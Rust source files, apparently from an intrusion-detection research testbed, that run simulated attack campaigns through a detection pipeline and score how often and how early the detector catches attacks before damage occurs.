pub fn run_reactive_campaign(
    cfg: &TestbedConfig,
    campaign_cfg: &CampaignConfig,
    model: ChainModel,
    policy: Option<ReactivePolicy>,
    round: SimDuration,
) -> ReactiveRun {
    assert!(round > SimDuration::ZERO, "round must advance time");
    let reactive = policy.is_some();
    let mut rng = SimRng::seed(cfg.seed);
    let mut gen = ReactiveGenerator::new(
        campaign_cfg,
        policy.unwrap_or_else(ReactivePolicy::open_loop),
        &mut rng,
    );
    let tap = FeedbackTap::new();
    let mut core = InlineCore::new(
        PipelineBuilder::from_config(cfg, model)
            .block_feedback(tap.clone())
            .build(),
    );
    let mut records: Vec<LogRecord> = Vec::new();
    let mut buf: Vec<LogRecord> = Vec::new();
    let mut t = campaign_cfg.start.saturating_add(round);
    let mut rounds = 0u64;
    while !gen.finished() {
        buf.clear();
        gen.emit_until(t, &mut buf);
        if !buf.is_empty() {
            core.process_records_at(None, &buf);
            records.extend_from_slice(&buf);
        }
        let events = tap.drain();
        if reactive && !events.is_empty() {
            gen.observe_blocks(t, &events);
        }
        rounds += 1;
        // Next boundary: one round ahead, or jump an idle gap straight to
        // the next pending event (dilated tails would otherwise cost
        // millions of empty rounds).
        let next: SimTime = match gen.next_event_ts() {
            Some(ts) if ts > t => ts,
            _ => t,
        };
        t = next.saturating_add(round);
    }
    core.flush();
    let stream = core.into_report();
    let truth = gen.truth();
    let eval = evaluate_campaign(&stream, &truth);
    ReactiveRun {
        records,
        truth,
        stream,
        eval,
        stats: gen.stats(),
        rounds,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use scenario::library::standard_library;

    fn small_frontier_cfg() -> FrontierConfig {
        FrontierConfig {
            probes: 3,
            sessions: 10,
            horizon: SimDuration::from_hours(12),
            ..FrontierConfig::default()
        }
    }

    #[test]
    fn frontier_covers_every_family_and_attaches_configs() {
        let cfg = TestbedConfig::default();
        let model = detect::train::toy_training_model();
        let families = standard_library();
        let frontier = worst_case_frontier(&cfg, &model, &families[..2], &small_frontier_cfg());
        assert_eq!(frontier.len(), 2);
        for p in &frontier {
            assert_eq!(p.probes, 3);
            assert!(p.accepted >= 1, "baseline probe always accepts");
            assert!(p.config.dilation >= 1.0);
            assert!((0.0..=1.0).contains(&p.preemption_rate));
            assert!(
                (p.missed_damage_rate - (1.0 - p.preemption_rate)).abs() < 1e-12,
                "missed damage is the preemption complement"
            );
            assert!(
                p.preemption_rate <= p.baseline_preemption + 2e-3,
                "{}: the worst-case point cannot beat the baseline \
                 (search is greedy over attacker score): {} vs {}",
                p.family,
                p.preemption_rate,
                p.baseline_preemption
            );
        }
    }

    #[test]
    fn frontier_is_deterministic() {
        let cfg = TestbedConfig::default();
        let model = detect::train::toy_training_model();
        let families = standard_library();
        let run = || worst_case_frontier(&cfg, &model, &families[..1], &small_frontier_cfg());
        assert_eq!(run(), run());
    }

    #[test]
    fn learning_curve_scores_each_model_on_the_same_campaign() {
        let cfg = TestbedConfig::default();
        let model = detect::train::toy_training_model();
        let ccfg = CampaignConfig {
            sessions: 12,
            horizon: SimDuration::from_hours(12),
            ..CampaignConfig::default()
        };
        let points = learning_curve(&cfg, &ccfg, &[(10, model.clone()), (20, model)]);
        assert_eq!(points.len(), 2);
        // Identical models on an identical campaign: identical scores —
        // the sweep is paired.
        assert_eq!(points[0].preemption_rate, points[1].preemption_rate);
        assert_eq!(points[0].detection_rate, points[1].detection_rate);
        assert_eq!(points[0].corpus_incidents, 10);
        assert_eq!(points[1].corpus_incidents, 20);
    }
}
