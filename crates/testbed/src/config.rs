//! Testbed configuration.

use std::net::Ipv4Addr;

use alertlib::filter::FilterConfig;
use alertlib::symbolize::SymbolizerConfig;
use bhr::policy::AutoBlockPolicy;
use detect::attack_tagger::TaggerConfig;
use honeynet::deploy::DeployConfig;
use simnet::time::{SimDuration, SimTime};
use telemetry::zeek::ZeekConfig;

/// Full configuration of the ATTACKTAGGER testbed (Fig. 4).
#[derive(Debug, Clone)]
pub struct TestbedConfig {
    /// Simulation start time.
    pub start: SimTime,
    /// Honeynet deployment parameters (§IV-C).
    pub deploy: DeployConfig,
    /// Zeek policy tuning.
    pub zeek: ZeekConfig,
    /// Symbolization rules.
    pub symbolizer: SymbolizerConfig,
    /// Repeated-scan filter.
    pub filter: FilterConfig,
    /// Factor-graph detector decision config.
    pub tagger: TaggerConfig,
    /// Mass-scanner auto-block policy (None disables).
    pub auto_block: Option<AutoBlockPolicy>,
    /// Whether detections trigger a BHR block of the attacker source.
    pub block_on_detection: bool,
    /// TTL for detection-triggered blocks.
    pub detection_block_ttl: Option<SimDuration>,
    /// Known C2 endpoints fed to the symbolizer (threat intel).
    pub c2_feed: Vec<Ipv4Addr>,
}

impl Default for TestbedConfig {
    fn default() -> Self {
        TestbedConfig {
            start: SimTime::from_date(2024, 10, 1),
            deploy: DeployConfig::default(),
            zeek: ZeekConfig::default(),
            symbolizer: SymbolizerConfig::default(),
            filter: FilterConfig::default(),
            tagger: TaggerConfig::default(),
            auto_block: Some(AutoBlockPolicy::default()),
            block_on_detection: true,
            detection_block_ttl: None,
            c2_feed: Vec::new(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_are_consistent() {
        let cfg = TestbedConfig::default();
        assert!(cfg.block_on_detection);
        assert_eq!(cfg.deploy.entry_points, 16);
        assert!(cfg.auto_block.is_some());
    }
}
