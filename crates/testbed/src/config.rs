//! Testbed configuration.

use std::net::Ipv4Addr;

use alertlib::filter::FilterConfig;
use alertlib::symbolize::SymbolizerConfig;
use bhr::policy::AutoBlockPolicy;
use bhr::retry::RetryPolicy;
use detect::attack_tagger::{TaggerConfig, TemporalPolicy};
use honeynet::deploy::DeployConfig;
use serde::{Deserialize, Serialize};
use simnet::time::{SimDuration, SimTime};
use telemetry::zeek::ZeekConfig;

/// Which executor drives an assembled record pipeline
/// (see [`crate::stage`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum ExecutorKind {
    /// All stages run in the caller's thread, batch by batch. The
    /// deterministic reference; also what the closed-loop simulation sink
    /// uses.
    Inline,
    /// One thread per stage, bounded channels carrying record/alert
    /// batches between them.
    Threaded,
    /// Like [`ExecutorKind::Threaded`], but the detect stage is
    /// partitioned by entity hash into shards driven on the rayon worker
    /// pool.
    Sharded,
}

/// Batching / capacity / sharding knobs shared by every executor.
///
/// Defaults: `batch_size` 256 (large enough to amortize channel costs,
/// small enough to keep stages busy), `stage_capacity` 4096 in-flight
/// items per inter-stage channel (back-pressure bound; the pre-redesign
/// pipeline hardcoded this as `STAGE_CAPACITY`), `detect_shards` 0 =
/// one shard per available core, `alert_retention` 10 000 retained
/// post-filter alerts (drop-oldest beyond that; see
/// [`crate::stage::AlertRetention`]).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct PipelineTuning {
    /// Executor used by [`crate::stage::BuiltPipeline::run`].
    pub executor: ExecutorKind,
    /// Records/alerts moved between stages per channel send.
    pub batch_size: usize,
    /// Maximum in-flight items buffered between two stages (rounded up to
    /// whole batches, minimum one batch).
    pub stage_capacity: usize,
    /// Detect-stage shard count for [`ExecutorKind::Sharded`];
    /// `0` = one shard per available core.
    pub detect_shards: usize,
    /// Cap on retained post-filter alerts (drop-oldest, counted);
    /// `0` disables retention entirely.
    pub alert_retention: usize,
    /// Override of the detector's per-entity temporal policy (evidence
    /// decay half-life, session timeout, gap observations). `None` keeps
    /// whatever the [`TaggerConfig`] carries — set it here to tune the
    /// temporal behaviour of an assembled pipeline without rebuilding the
    /// detector config (the knob the dilation sweeps turn).
    #[serde(default)]
    pub temporal: Option<TemporalPolicy>,
    /// Per-entity detector state budget applied to the tagger at build
    /// time (see [`TaggerConfig::max_entities`]); `0` (the default) keeps
    /// whatever the detector config carries. The service-mode knob: a
    /// long-lived multi-tenant deployment caps resident per-entity state
    /// here without rebuilding the detector config.
    #[serde(default)]
    pub detect_max_entities: usize,
    /// Retry schedule for failed response deliveries (block RPCs and
    /// operator notifications): exponential backoff + jitter, attempt
    /// cap, per-block deadline and a circuit breaker. Irrelevant — and
    /// behaviourally invisible — while the BHR backend is the default
    /// always-successful one.
    #[serde(default)]
    pub retry: RetryPolicy,
}

impl Default for PipelineTuning {
    fn default() -> Self {
        PipelineTuning {
            executor: ExecutorKind::Threaded,
            batch_size: 256,
            stage_capacity: 4_096,
            detect_shards: 0,
            alert_retention: 10_000,
            temporal: None,
            detect_max_entities: 0,
            retry: RetryPolicy::default(),
        }
    }
}

impl PipelineTuning {
    /// Effective shard count.
    pub fn shards(&self) -> usize {
        if self.detect_shards == 0 {
            rayon::current_num_threads().max(1)
        } else {
            self.detect_shards
        }
    }

    /// Channel depth in batches implied by `stage_capacity`.
    pub fn channel_batches(&self) -> usize {
        (self.stage_capacity / self.batch_size.max(1)).max(1)
    }
}

/// Full configuration of the ATTACKTAGGER testbed (Fig. 4).
#[derive(Debug, Clone)]
pub struct TestbedConfig {
    /// Simulation start time.
    pub start: SimTime,
    /// Top-level RNG seed. Every stochastic subsystem of a run — campaign
    /// generation, background streams, scenario scripts — derives its
    /// stream from this one value (via [`PipelineBuilder::scenario_rng`]
    /// and [`crate::eval::run_campaign`]), so an experiment is reproducible
    /// end-to-end from this single field.
    ///
    /// [`PipelineBuilder::scenario_rng`]: crate::stage::PipelineBuilder::scenario_rng
    pub seed: u64,
    /// Honeynet deployment parameters (§IV-C).
    pub deploy: DeployConfig,
    /// Zeek policy tuning.
    pub zeek: ZeekConfig,
    /// Symbolization rules.
    pub symbolizer: SymbolizerConfig,
    /// Repeated-scan filter.
    pub filter: FilterConfig,
    /// Factor-graph detector decision config.
    pub tagger: TaggerConfig,
    /// Mass-scanner auto-block policy (None disables).
    pub auto_block: Option<AutoBlockPolicy>,
    /// Whether detections trigger a BHR block of the attacker source.
    pub block_on_detection: bool,
    /// TTL for detection-triggered blocks.
    pub detection_block_ttl: Option<SimDuration>,
    /// Known C2 endpoints fed to the symbolizer (threat intel).
    pub c2_feed: Vec<Ipv4Addr>,
    /// Pipeline batching / capacity / sharding knobs.
    pub tuning: PipelineTuning,
}

impl Default for TestbedConfig {
    fn default() -> Self {
        TestbedConfig {
            start: SimTime::from_date(2024, 10, 1),
            seed: 0xA77AC4ED,
            deploy: DeployConfig::default(),
            zeek: ZeekConfig::default(),
            symbolizer: SymbolizerConfig::default(),
            filter: FilterConfig::default(),
            tagger: TaggerConfig::default(),
            auto_block: Some(AutoBlockPolicy::default()),
            block_on_detection: true,
            detection_block_ttl: None,
            c2_feed: Vec::new(),
            tuning: PipelineTuning::default(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_are_consistent() {
        let cfg = TestbedConfig::default();
        assert!(cfg.block_on_detection);
        assert_eq!(cfg.seed, 0xA77AC4ED);
        assert_eq!(cfg.deploy.entry_points, 16);
        assert!(cfg.auto_block.is_some());
        assert_eq!(cfg.tuning.batch_size, 256);
        assert_eq!(cfg.tuning.stage_capacity, 4_096);
        assert!(cfg.tuning.shards() >= 1);
        assert_eq!(cfg.tuning.channel_batches(), 16);
    }

    #[test]
    fn tuning_derived_quantities_clamp() {
        let mut t = PipelineTuning {
            batch_size: 10_000,
            stage_capacity: 100,
            detect_shards: 3,
            ..PipelineTuning::default()
        };
        assert_eq!(t.channel_batches(), 1, "capacity below one batch clamps");
        assert_eq!(t.shards(), 3);
        t.detect_shards = 0;
        assert_eq!(t.shards(), rayon::current_num_threads().max(1));
    }
}
