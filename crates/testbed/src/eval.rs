//! Preemption evaluation harness.
//!
//! Scores a pipeline run ([`StreamReport`]) against the ground truth of an
//! adversarial campaign ([`CampaignGroundTruth`]): per-family preemption
//! rate (alert strictly before the family's damage step), lead-time
//! distributions in simulated seconds *and* in attack-step records, TP/FN
//! per family, and the false-positive rate per million background records —
//! the paper's headline metrics, measured over mutating variants instead of
//! the eight clean templates.
//!
//! [`run_campaign`] is the end-to-end path: one [`TestbedConfig::seed`]
//! drives campaign generation, pipeline assembly and evaluation, so a
//! whole experiment is reproducible from a single config field.

use std::collections::HashMap;

use factorgraph::chain::ChainModel;
use scenario::mutate::{generate_campaign, Campaign, CampaignConfig, CampaignGroundTruth};
use serde::{Deserialize, Serialize};
use simnet::rng::SimRng;
use simnet::time::SimTime;

use crate::config::TestbedConfig;
use crate::stage::{PipelineBuilder, StreamReport};

/// Distribution summary of preemption lead times.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct LeadTimeStats {
    /// Preempted sessions contributing a lead time.
    pub count: usize,
    pub mean_secs: f64,
    pub median_secs: f64,
    pub p10_secs: f64,
    pub p90_secs: f64,
    pub max_secs: f64,
    /// Mean attack-step records between detection and damage.
    pub mean_records: f64,
    /// Median attack-step records between detection and damage.
    pub median_records: f64,
}

impl LeadTimeStats {
    /// Nearest-rank index for percentile `p` over `n` sorted samples:
    /// `⌈p·n⌉ - 1`, clamped into range. Total for every `n` (0 included —
    /// callers with an empty sample get index 0, which they must guard),
    /// and consistent across p10/median/p90: at `n = 1` every percentile
    /// is the single sample, at `n = 2` the median is the lower sample
    /// (the nearest-rank convention) while p90 is the upper — the
    /// previous `.round()` form both underflowed at `n = 0` and pulled
    /// the `n = 2` median *up* while the median convention takes the
    /// lower rank.
    fn rank(n: usize, p: f64) -> usize {
        ((p * n as f64).ceil() as usize).clamp(1, n.max(1)) - 1
    }

    fn from_leads(mut secs: Vec<f64>, mut records: Vec<u64>) -> LeadTimeStats {
        if secs.is_empty() {
            return LeadTimeStats::default();
        }
        secs.sort_by(|a, b| a.partial_cmp(b).expect("finite lead"));
        records.sort_unstable();
        // Nearest-rank index, shared by both samples so the seconds and
        // records medians pick the same element of their distributions.
        let pct = |v: &[f64], p: f64| v[Self::rank(v.len(), p)];
        LeadTimeStats {
            count: secs.len(),
            mean_secs: secs.iter().sum::<f64>() / secs.len() as f64,
            median_secs: pct(&secs, 0.5),
            p10_secs: pct(&secs, 0.1),
            p90_secs: pct(&secs, 0.9),
            max_secs: *secs.last().expect("non-empty"),
            mean_records: records.iter().sum::<u64>() as f64 / records.len() as f64,
            median_records: records[Self::rank(records.len(), 0.5)] as f64,
        }
    }
}

/// Per-family breakdown of lateral-split (multi-hop) sessions versus
/// unsplit (single-entity) ones — the recovery axis the campaign
/// correlator is evaluated on. A *hop* is one entity of a split session;
/// a hop counts as detected before damage when its own entity raised a
/// notification strictly ahead of the session's damage step.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct LateralSplitEval {
    /// Attack sessions split across ≥ 2 entities.
    pub split_sessions: usize,
    /// Split sessions preempted before their damage step.
    pub split_preempted: usize,
    /// Single-entity attack sessions (the recovery baseline).
    pub unsplit_sessions: usize,
    /// Unsplit sessions preempted before their damage step.
    pub unsplit_preempted: usize,
    /// `split_preempted / split_sessions` (0 when no split sessions).
    pub split_preemption_rate: f64,
    /// `unsplit_preempted / unsplit_sessions` (0 when none).
    pub unsplit_preemption_rate: f64,
    /// Hops of split sessions whose own entity was detected strictly
    /// before the session's damage step (or with no damage step).
    pub hops_detected_before_damage: usize,
    /// Hops detected only at or after damage.
    pub hops_detected_after_damage: usize,
    /// Mean seconds between the earliest and latest hop detection within
    /// split sessions that had ≥ 2 hops detected — how fast evidence
    /// propagated across the split (0 with correlation: later hops are
    /// promoted on their first alert).
    pub mean_cross_hop_lead_secs: f64,
}

/// Per-family scoring of one campaign run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct FamilyEval {
    pub family: String,
    /// Attack sessions of this family in the campaign.
    pub sessions: usize,
    /// Sessions with at least one detection on a session entity.
    pub detected: usize,
    /// Detected strictly before the damage step (or with no damage step).
    pub preempted: usize,
    /// Detected, but only at or after damage.
    pub late: usize,
    /// Never detected.
    pub missed: usize,
    pub preemption_rate: f64,
    pub lead: LeadTimeStats,
    /// Mean realized inter-attack-step gap across the family's sessions,
    /// in seconds — the tempo axis of a detection-vs-dilation curve.
    #[serde(default)]
    pub mean_step_gap_secs: f64,
    /// Lateral-split vs unsplit breakdown (the campaign-correlation
    /// recovery metric; all-zero when the family had no split sessions).
    #[serde(default)]
    pub lateral: LateralSplitEval,
}

/// The serializable evaluation report of one campaign run.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct EvalReport {
    /// Total campaign sessions (attack + decoy).
    pub sessions: usize,
    pub attack_sessions: usize,
    pub decoy_sessions: usize,
    pub background_records: u64,
    /// Per-family rows, sorted by family name.
    pub families: Vec<FamilyEval>,
    /// Aggregate over all attack sessions.
    pub overall: FamilyEval,
    /// Detections attributed to decoy entities (fooled by cover traffic).
    pub decoy_detections: u64,
    /// Detections on entities belonging to no campaign session at all —
    /// false positives on the background load.
    pub background_false_positives: u64,
    /// Background false positives per million background records
    /// (`f64::NAN`-free: 0 when there is no background).
    pub fp_per_million_background: f64,
    /// The campaign's timing-dilation factor (from the ground truth), so
    /// a report is a self-describing point on a detection-vs-dilation
    /// curve.
    #[serde(default)]
    pub dilation: f64,
    /// Fault profile the scored stream ran under (`None` when the
    /// pipeline carried no fault plan; serialized as `"clean"`), so a
    /// report is also a self-describing point on a fault-intensity sweep.
    #[serde(default)]
    pub fault_profile: Option<String>,
    /// Alerts dropped by the detector's duplicate-suppression window.
    #[serde(default)]
    pub duplicates_suppressed: u64,
    /// Block RPC re-deliveries attempted by the response retry queue.
    #[serde(default)]
    pub blocks_retried: u64,
    /// Blocks permanently lost (retry cap or deadline exhausted).
    #[serde(default)]
    pub blocks_abandoned: u64,
    /// Campaigns the cross-entity correlator stitched together (0 when
    /// correlation is disabled).
    #[serde(default)]
    pub correlated_campaigns: u64,
    /// Detections the correlator raised by fusing cross-hop evidence.
    #[serde(default)]
    pub correlated_promotions: u64,
    /// Tagger detections suppressed because the correlator had already
    /// promoted the entity (would-be duplicate campaign alerts).
    #[serde(default)]
    pub correlated_confirmations: u64,
}

impl EvalReport {
    /// Serialize the report as a JSON value (the `BENCH_3.json` /
    /// `ADVERSARIAL_EVAL.json` artifact payload).
    pub fn to_json(&self) -> serde_json::Value {
        let family_json = |f: &FamilyEval| {
            serde_json::json!({
                "family": f.family.clone(),
                "sessions": f.sessions,
                "detected": f.detected,
                "preempted": f.preempted,
                "late": f.late,
                "missed": f.missed,
                "preemption_rate": f.preemption_rate,
                "mean_step_gap_secs": f.mean_step_gap_secs,
                "lateral_split": {
                    "split_sessions": f.lateral.split_sessions,
                    "split_preempted": f.lateral.split_preempted,
                    "split_preemption_rate": f.lateral.split_preemption_rate,
                    "unsplit_sessions": f.lateral.unsplit_sessions,
                    "unsplit_preempted": f.lateral.unsplit_preempted,
                    "unsplit_preemption_rate": f.lateral.unsplit_preemption_rate,
                    "hops_detected_before_damage": f.lateral.hops_detected_before_damage,
                    "hops_detected_after_damage": f.lateral.hops_detected_after_damage,
                    "mean_cross_hop_lead_secs": f.lateral.mean_cross_hop_lead_secs,
                },
                "lead": {
                    "count": f.lead.count,
                    "mean_secs": f.lead.mean_secs,
                    "median_secs": f.lead.median_secs,
                    "p10_secs": f.lead.p10_secs,
                    "p90_secs": f.lead.p90_secs,
                    "max_secs": f.lead.max_secs,
                    "mean_records": f.lead.mean_records,
                    "median_records": f.lead.median_records,
                },
            })
        };
        let families: Vec<serde_json::Value> = self.families.iter().map(family_json).collect();
        serde_json::json!({
            "sessions": self.sessions,
            "attack_sessions": self.attack_sessions,
            "decoy_sessions": self.decoy_sessions,
            "background_records": self.background_records,
            "families": families,
            "overall": family_json(&self.overall),
            "decoy_detections": self.decoy_detections,
            "background_false_positives": self.background_false_positives,
            "fp_per_million_background": self.fp_per_million_background,
            "dilation": self.dilation,
            "fault_profile": self
                .fault_profile
                .clone()
                .unwrap_or_else(|| "clean".to_string()),
            "duplicates_suppressed": self.duplicates_suppressed,
            "blocks_retried": self.blocks_retried,
            "blocks_abandoned": self.blocks_abandoned,
            "correlated_campaigns": self.correlated_campaigns,
            "correlated_promotions": self.correlated_promotions,
            "correlated_confirmations": self.correlated_confirmations,
        })
    }

    /// Render the per-family preemption table as aligned text.
    pub fn table(&self) -> String {
        use std::fmt::Write as _;
        let mut out = String::new();
        let _ = writeln!(
            out,
            "{:<16} {:>8} {:>8} {:>9} {:>5} {:>7} {:>8} {:>12} {:>12} {:>6} {:>8} {:>9}",
            "family",
            "sessions",
            "detected",
            "preempted",
            "late",
            "missed",
            "preempt%",
            "lead(med s)",
            "lead(med rec)",
            "split",
            "split p%",
            "unspl p%"
        );
        for f in self.families.iter().chain(std::iter::once(&self.overall)) {
            let _ = writeln!(
                out,
                "{:<16} {:>8} {:>8} {:>9} {:>5} {:>7} {:>7.1}% {:>12.0} {:>12.1} {:>6} {:>7.1}% {:>8.1}%",
                f.family,
                f.sessions,
                f.detected,
                f.preempted,
                f.late,
                f.missed,
                f.preemption_rate * 100.0,
                f.lead.median_secs,
                f.lead.median_records,
                f.lateral.split_sessions,
                f.lateral.split_preemption_rate * 100.0,
                f.lateral.unsplit_preemption_rate * 100.0,
            );
        }
        let _ = writeln!(
            out,
            "decoy detections: {}   background FPs: {} ({:.3}/M records)",
            self.decoy_detections, self.background_false_positives, self.fp_per_million_background
        );
        out
    }
}

struct FamilyAccum {
    sessions: usize,
    detected: usize,
    preempted: usize,
    late: usize,
    lead_secs: Vec<f64>,
    lead_records: Vec<u64>,
    gap_sum_secs: f64,
    gap_count: usize,
    split_sessions: usize,
    split_preempted: usize,
    unsplit_sessions: usize,
    unsplit_preempted: usize,
    hops_before: usize,
    hops_after: usize,
    cross_hop_span_sum: f64,
    cross_hop_span_count: usize,
}

impl FamilyAccum {
    fn new() -> FamilyAccum {
        FamilyAccum {
            sessions: 0,
            detected: 0,
            preempted: 0,
            late: 0,
            lead_secs: Vec::new(),
            lead_records: Vec::new(),
            gap_sum_secs: 0.0,
            gap_count: 0,
            split_sessions: 0,
            split_preempted: 0,
            unsplit_sessions: 0,
            unsplit_preempted: 0,
            hops_before: 0,
            hops_after: 0,
            cross_hop_span_sum: 0.0,
            cross_hop_span_count: 0,
        }
    }

    fn finish(self, family: String) -> FamilyEval {
        let missed = self.sessions - self.detected;
        let rate = |num: usize, den: usize| {
            if den == 0 {
                0.0
            } else {
                num as f64 / den as f64
            }
        };
        FamilyEval {
            family,
            sessions: self.sessions,
            detected: self.detected,
            preempted: self.preempted,
            late: self.late,
            missed,
            preemption_rate: rate(self.preempted, self.sessions),
            lead: LeadTimeStats::from_leads(self.lead_secs, self.lead_records),
            mean_step_gap_secs: if self.gap_count == 0 {
                0.0
            } else {
                self.gap_sum_secs / self.gap_count as f64
            },
            lateral: LateralSplitEval {
                split_sessions: self.split_sessions,
                split_preempted: self.split_preempted,
                unsplit_sessions: self.unsplit_sessions,
                unsplit_preempted: self.unsplit_preempted,
                split_preemption_rate: rate(self.split_preempted, self.split_sessions),
                unsplit_preemption_rate: rate(self.unsplit_preempted, self.unsplit_sessions),
                hops_detected_before_damage: self.hops_before,
                hops_detected_after_damage: self.hops_after,
                mean_cross_hop_lead_secs: if self.cross_hop_span_count == 0 {
                    0.0
                } else {
                    self.cross_hop_span_sum / self.cross_hop_span_count as f64
                },
            },
        }
    }
}

/// Score a pipeline run against campaign ground truth.
///
/// A session counts as *detected* when any of its hop entities raised a
/// notification; its detection instant is the earliest such notification.
/// *Preempted* means detected strictly before the session's damage step
/// (sessions without a realized damage step count any detection as
/// preemptive, mirroring [`detect::metrics`]). Notifications on entities
/// belonging to no session are background false positives.
pub fn evaluate_campaign(report: &StreamReport, truth: &CampaignGroundTruth) -> EvalReport {
    // Earliest notification per entity key.
    let mut first_detection: HashMap<String, SimTime> = HashMap::new();
    for n in &report.notifications {
        let key = n.entity.clone();
        let e = first_detection.entry(key).or_insert(n.detection.ts);
        if n.detection.ts < *e {
            *e = n.detection.ts;
        }
    }

    let mut families: HashMap<&str, FamilyAccum> = HashMap::new();
    let mut overall = FamilyAccum::new();
    let mut decoy_detections = 0u64;
    let mut session_entities: std::collections::HashSet<&str> = std::collections::HashSet::new();

    for s in &truth.sessions {
        for k in &s.entity_keys {
            session_entities.insert(k.as_str());
        }
        if s.decoy {
            if s.entity_keys
                .iter()
                .any(|k| first_detection.contains_key(k))
            {
                decoy_detections += 1;
            }
            continue;
        }
        let fam = families
            .entry(s.family.as_str())
            .or_insert_with(FamilyAccum::new);
        fam.sessions += 1;
        overall.sessions += 1;
        for &g in &s.step_gap_secs {
            fam.gap_sum_secs += g;
            overall.gap_sum_secs += g;
        }
        fam.gap_count += s.step_gap_secs.len();
        overall.gap_count += s.step_gap_secs.len();
        let split = s.entity_keys.len() > 1;
        if split {
            fam.split_sessions += 1;
            overall.split_sessions += 1;
            // Per-hop attribution: each hop's own first detection versus
            // the shared damage deadline, plus the first-to-last detection
            // span across hops.
            let mut span: Option<(SimTime, SimTime)> = None;
            let mut detected_hops = 0usize;
            for k in &s.entity_keys {
                let Some(&d) = first_detection.get(k) else {
                    continue;
                };
                detected_hops += 1;
                let before = match s.damage_ts {
                    Some(damage) => d < damage,
                    None => true,
                };
                if before {
                    fam.hops_before += 1;
                    overall.hops_before += 1;
                } else {
                    fam.hops_after += 1;
                    overall.hops_after += 1;
                }
                span = Some(match span {
                    None => (d, d),
                    Some((lo, hi)) => (lo.min(d), hi.max(d)),
                });
            }
            if detected_hops >= 2 {
                let (lo, hi) = span.expect("≥2 detected hops imply a span");
                let secs = (hi - lo).as_secs_f64();
                fam.cross_hop_span_sum += secs;
                fam.cross_hop_span_count += 1;
                overall.cross_hop_span_sum += secs;
                overall.cross_hop_span_count += 1;
            }
        } else {
            fam.unsplit_sessions += 1;
            overall.unsplit_sessions += 1;
        }
        let det_ts = s
            .entity_keys
            .iter()
            .filter_map(|k| first_detection.get(k))
            .min()
            .copied();
        let Some(det) = det_ts else { continue };
        fam.detected += 1;
        overall.detected += 1;
        let mut preempted = false;
        match s.damage_ts {
            Some(damage) if det < damage => {
                let lead_secs = (damage - det).as_secs_f64();
                let lead_records = s
                    .steps
                    .iter()
                    .filter(|(t, _)| *t > det && *t <= damage)
                    .count() as u64;
                fam.preempted += 1;
                fam.lead_secs.push(lead_secs);
                fam.lead_records.push(lead_records);
                overall.preempted += 1;
                overall.lead_secs.push(lead_secs);
                overall.lead_records.push(lead_records);
                preempted = true;
            }
            Some(_) => {
                fam.late += 1;
                overall.late += 1;
            }
            None => {
                fam.preempted += 1;
                overall.preempted += 1;
                preempted = true;
            }
        }
        if preempted {
            if split {
                fam.split_preempted += 1;
                overall.split_preempted += 1;
            } else {
                fam.unsplit_preempted += 1;
                overall.unsplit_preempted += 1;
            }
        }
    }

    let background_false_positives = first_detection
        .keys()
        .filter(|k| !session_entities.contains(k.as_str()))
        .count() as u64;

    let mut family_rows: Vec<FamilyEval> = families
        .into_iter()
        .map(|(name, acc)| acc.finish(name.to_string()))
        .collect();
    family_rows.sort_by(|a, b| a.family.cmp(&b.family));

    let decoy_sessions = truth.sessions.iter().filter(|s| s.decoy).count();
    EvalReport {
        sessions: truth.sessions.len(),
        attack_sessions: truth.sessions.len() - decoy_sessions,
        decoy_sessions,
        background_records: truth.background_records,
        families: family_rows,
        overall: overall.finish("overall".to_string()),
        decoy_detections,
        background_false_positives,
        fp_per_million_background: if truth.background_records == 0 {
            0.0
        } else {
            background_false_positives as f64 * 1_000_000.0 / truth.background_records as f64
        },
        dilation: truth.dilation,
        fault_profile: report.fault.as_ref().map(|f| f.profile.clone()),
        duplicates_suppressed: report.duplicates_suppressed,
        blocks_retried: report.blocks_retried,
        blocks_abandoned: report.blocks_abandoned,
        correlated_campaigns: report.campaigns.len() as u64,
        correlated_promotions: report.correlated_promotions,
        correlated_confirmations: report.correlated_confirmations,
    }
}

/// One fully scored campaign run.
#[derive(Debug)]
pub struct CampaignRun {
    /// The generated campaign (records already consumed by the pipeline;
    /// ground truth retained).
    pub truth: CampaignGroundTruth,
    pub stream: StreamReport,
    pub eval: EvalReport,
}

/// End-to-end reproducible campaign run: [`TestbedConfig::seed`] seeds the
/// campaign generator, [`PipelineBuilder::from_config`] assembles the
/// pipeline (executor per `cfg.tuning`), and the run is scored against the
/// generated ground truth. Two calls with equal configs are byte-identical.
pub fn run_campaign(
    cfg: &TestbedConfig,
    campaign_cfg: &CampaignConfig,
    model: ChainModel,
) -> CampaignRun {
    let mut rng = SimRng::seed(cfg.seed);
    let Campaign { records, truth } = generate_campaign(campaign_cfg, &mut rng);
    let report = PipelineBuilder::from_config(cfg, model)
        .build()
        .run(records);
    let eval = evaluate_campaign(&report, &truth);
    CampaignRun {
        truth,
        stream: report,
        eval,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use scenario::mutate::MutationConfig;
    use scenario::stream::RecordStreamConfig;
    use simnet::time::SimDuration;

    fn campaign_cfg(sessions: usize) -> CampaignConfig {
        CampaignConfig {
            sessions,
            horizon: SimDuration::from_hours(24),
            mutation: MutationConfig {
                decoy_prob: 0.15,
                ..MutationConfig::default()
            },
            background: Some(RecordStreamConfig {
                scan_records: 2_000,
                benign_flows: 500,
                exec_records: 1_500,
                users: 100,
                ..RecordStreamConfig::default()
            }),
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn campaign_run_detects_and_preempts_mutated_attacks() {
        let cfg = TestbedConfig::default();
        let run = run_campaign(&cfg, &campaign_cfg(48), detect::train::toy_training_model());
        assert_eq!(run.eval.sessions, 48);
        assert!(run.eval.attack_sessions >= 30);
        assert_eq!(run.eval.background_records, 4_000);
        assert!(
            run.eval.overall.detected > run.eval.attack_sessions / 2,
            "most mutated sessions detected: {}/{}",
            run.eval.overall.detected,
            run.eval.attack_sessions
        );
        assert!(
            run.eval.overall.preempted > 0,
            "some sessions preempted before damage"
        );
        // Accounting: detected = preempted + late; lead stats only count
